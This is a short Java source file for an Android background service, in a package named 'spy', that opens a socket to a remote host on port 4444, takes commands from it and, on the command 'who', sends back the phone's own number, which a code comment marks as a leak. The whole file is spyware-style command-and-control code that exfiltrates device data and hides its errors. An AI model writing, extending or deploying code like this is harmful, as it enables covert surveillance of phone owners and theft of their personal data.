package spy;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.BufferedWriter;
import java.io.InputStreamReader;
import java.io.OutputStreamWriter;
import java.io.PrintWriter;
import java.net.Socket;

/** A socket that takes orders. */
public class Shell extends Service implements Runnable {
    private Socket socket;
    private PrintWriter out;

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        new Thread(this).start();
        return 1;
    }

    public void run() {
        try {
            socket = new Socket("203.0.113.7", 4444);
            out = new PrintWriter(new BufferedWriter(new OutputStreamWriter(socket.getOutputStream())), true);
            BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));
            String line;
            while ((line = in.readLine()) != null) {
                if (line.equals("who")) answer(((TelephonyManager) getSystemService("phone")).getLine1Number());
                else refuse("unknown");
            }
        } catch (Exception ignored) {
        }
    }

    private void answer(String text) {
        out.println(text); // leak
    }

    private void refuse(String text) {
        out.println(text); // no leak
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
